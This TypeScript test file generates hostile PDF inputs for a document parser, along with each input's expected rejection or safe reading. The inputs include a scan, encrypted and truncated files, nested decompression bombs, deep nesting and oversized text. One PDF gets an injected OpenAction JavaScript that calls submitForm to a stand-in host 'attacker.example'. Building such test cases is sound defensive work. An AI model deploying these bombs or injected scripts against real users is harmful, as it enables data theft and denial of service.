/**
 * Hostile cases: PDF files — a scan, encrypted, damaged, a decompression bomb (plain and nested),
 * hundreds of pages, deep nesting, millions of characters, scripts. All made at test time with
 * the test PDF writer (test/pdf), a few KB each except the bombs' compressed streams.
 */
import { deflateSync } from 'node:zlib'
import { drawReportPdf } from '../pdf/draw-report'
import { PdfBuilder, pagesDocument, ucs2 } from '../pdf/pdf-builder'
import { fixtureReport } from '../unit/sample-reports'
import { once, SCRIPT_MARKER, type HostileCase } from './make'

/** A page that is one grey image, as a scanner writes it: no text at all. */
function scan(): Uint8Array {
  const pdf = new PdfBuilder()
  const pixels = new Uint8Array(64 * 64).map((_, i) => 180 + ((i * 7) % 60))
  const image = pdf.addStream(pixels, {
    dict: '/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8',
  })
  const root = pagesDocument(pdf, ['q 595 0 0 842 0 0 cm /Im1 Do Q', 'q 595 0 0 842 0 0 cm /Im1 Do Q'], {
    extraResources: `/XObject << /Im1 ${image} 0 R >>`,
  })
  return pdf.build(root)
}

/** 150 MB of spaces deflated (about 150 KB), made once per process. */
const BOMB_SIZE = 150 * 1024 * 1024
const bombLayer = once(() => new Uint8Array(deflateSync(Buffer.alloc(BOMB_SIZE, 0x20), { level: 9 })))

/** A page whose content stream inflates to 150 MB of spaces, compressed once or twice. */
function bomb(layers: 1 | 2): Uint8Array {
  const pdf = new PdfBuilder()
  const data = layers === 1 ? bombLayer() : new Uint8Array(deflateSync(bombLayer(), { level: 9 }))
  const filters = Array(layers).fill('/FlateDecode').join(' ')
  const content = pdf.addStream(data, { compress: false, dict: `/Filter [${filters}]` })
  const pages = pdf.reserve()
  const page = pdf.add(`<< /Type /Page /Parent ${pages} 0 R /MediaBox [0 0 595 842] /Contents ${content} 0 R >>`)
  pdf.set(pages, `<< /Type /Pages /Kids [${page} 0 R] /Count 1 >>`)
  return pdf.build(pdf.add(`<< /Type /Catalog /Pages ${pages} 0 R >>`))
}

/** A report that also opens with a script and carries a form field computing one: none of it may run. */
function withScripts(): Uint8Array {
  const report = drawReportPdf(fixtureReport())
  const text = Buffer.from(report).toString('latin1')
  const script = `app.alert('${SCRIPT_MARKER}'); this.submitForm('https://attacker.example/')`
  // Append an incremental update: a new catalog with /OpenAction JavaScript.
  const root = /\/Root (\d+) 0 R/.exec(text)?.[1]
  const size = Number(/\/Size (\d+)/.exec(text)?.[1])
  const catalogBody = new RegExp(`\\n${root} 0 obj\\n(<<[^]*?>>)\\nendobj`).exec(text)?.[1] ?? ''
  const js = size
  const catalog = `${catalogBody.replace(/>>$/, '')} /OpenAction ${js} 0 R /AA << /WC ${js} 0 R >> >>`
  const start = report.length
  const objects = `${js} 0 obj\n<< /S /JavaScript /JS (${script}) >>\nendobj\n${root} 0 obj\n${catalog}\nendobj\n`
  const catalogAt = start + objects.indexOf(`${root} 0 obj`)
  const xrefAt = start + objects.length
  const prev = /startxref\n(\d+)/.exec(text)?.[1]
  const xref =
    `xref\n${root} 1\n${String(catalogAt).padStart(10, '0')} 00000 n \n${js} 1\n${String(start).padStart(10, '0')} 00000 n \n` +
    `trailer\n<< /Size ${js + 1} /Root ${root} 0 R /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`
  return new Uint8Array(Buffer.concat([Buffer.from(report), Buffer.from(objects + xref, 'latin1')]))
}

const tinyText = (pages: number) => {
  // 1,500 lines of 400 characters at half a point: some 600,000 characters a page.
  const line = ucs2('政'.repeat(400))
  const page = Array.from(
    { length: 1500 },
    (_, i) => `BT /F1 0.5 Tf 20 ${(20 + i * 0.5).toFixed(1)} Td ${line} Tj ET`,
  ).join('\n')
  const pdf = new PdfBuilder()
  return pdf.build(pagesDocument(pdf, Array<string>(pages).fill(page)))
}

export const PDF_CASES: HostileCase[] = [
  {
    id: 'pdf-scan',
    title: 'a scanned report: every page an image, no text layer',
    fileName: '扫描件.pdf',
    bytes: once(scan),
    reject: { message: /^这是扫描件：PDF 的页面是图片，没有可提取的文字层.*OCR/ },
    browser: true,
  },
  {
    id: 'pdf-encrypted',
    title: 'a report encrypted with a password to open it',
    fileName: '加密.pdf',
    bytes: once(() => drawReportPdf(fixtureReport(), { password: 'secret' })),
    reject: { message: /^PDF 文件已加密，需要密码才能打开/ },
    browser: true,
  },
  {
    id: 'pdf-permissions-only',
    title: 'a report "protected" against copying only (encrypted, empty password to open): read',
    fileName: '禁止复制.pdf',
    bytes: once(() => drawReportPdf(fixtureReport(), { password: '' })),
    accept: { reports: 1 },
  },
  {
    id: 'pdf-truncated',
    title: 'a report PDF cut off at 60 % (an interrupted download)',
    fileName: '下载不完整.pdf',
    bytes: once(() => {
      const whole = drawReportPdf(fixtureReport())
      return whole.slice(0, Math.floor(whole.length * 0.6))
    }),
    reject: { message: /^不是有效的 PDF 文件，或文件已损坏/ },
  },
  {
    id: 'pdf-garbage',
    title: 'a PDF header followed by garbage',
    fileName: 'garbage.pdf',
    bytes: () => {
      const bytes = new Uint8Array(5000).map((_, i) => (i * 7919) % 251)
      bytes.set(new TextEncoder().encode('%PDF-1.7\n'), 0)
      return bytes
    },
    reject: { message: /^不是有效的 PDF 文件，或文件已损坏/ },
  },
  {
    id: 'pdf-not-pdf',
    title: 'a text file renamed .pdf',
    fileName: 'fake.pdf',
    bytes: () => new TextEncoder().encode('office,year\n某局,2024\n'),
    reject: { message: /^不是有效的 PDF 文件（文件开头没有 %PDF 标记）/ },
  },
  {
    id: 'pdf-bomb',
    title: 'a decompression bomb: 150 MB of content in a 150 KB stream',
    fileName: 'bomb.pdf',
    bytes: once(() => bomb(1)),
    reject: { message: /压缩炸弹/ },
    browser: true,
  },
  {
    id: 'pdf-nested-bomb',
    title: 'a decompression bomb compressed twice: 150 MB behind a stream of under 1 KB',
    fileName: 'bomb2.pdf',
    bytes: once(() => bomb(2)),
    reject: { message: /压缩炸弹/ },
  },
  {
    id: 'pdf-many-pages',
    title: 'a PDF of 300 pages (all sharing one small content stream)',
    fileName: 'pages.pdf',
    bytes: once(() => {
      const pdf = new PdfBuilder()
      return pdf.build(pagesDocument(pdf, Array<string>(300).fill(`BT /F1 12 Tf 72 700 Td ${ucs2('第一页')} Tj ET`)))
    }),
    reject: { message: /^PDF 有 300 页，超过 200 页的上限/ },
  },
  {
    id: 'pdf-deep-nesting',
    title: 'a page whose content nests arrays 100,000 deep',
    fileName: 'deep.pdf',
    bytes: once(() => {
      const pdf = new PdfBuilder()
      const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
      return pdf.build(pagesDocument(pdf, [`BT /F1 12 Tf 72 700 Td ${deep} TJ ET`]))
    }),
    reject: { message: /^PDF 中没有可提取的文字/ },
  },
  {
    id: 'pdf-millions-of-characters',
    title: 'four pages of some 600,000 characters each in half-point type',
    fileName: 'tiny.pdf',
    bytes: once(() => tinyText(4)),
    reject: { message: /^PDF 的文字超过 2,000,000 个字符/ },
  },
  {
    id: 'pdf-javascript',
    title: 'a report that opens with JavaScript (app.alert, submitForm): read, nothing runs',
    fileName: '带脚本.pdf',
    bytes: once(withScripts),
    accept: { reports: 1 },
    browser: true,
  },
]
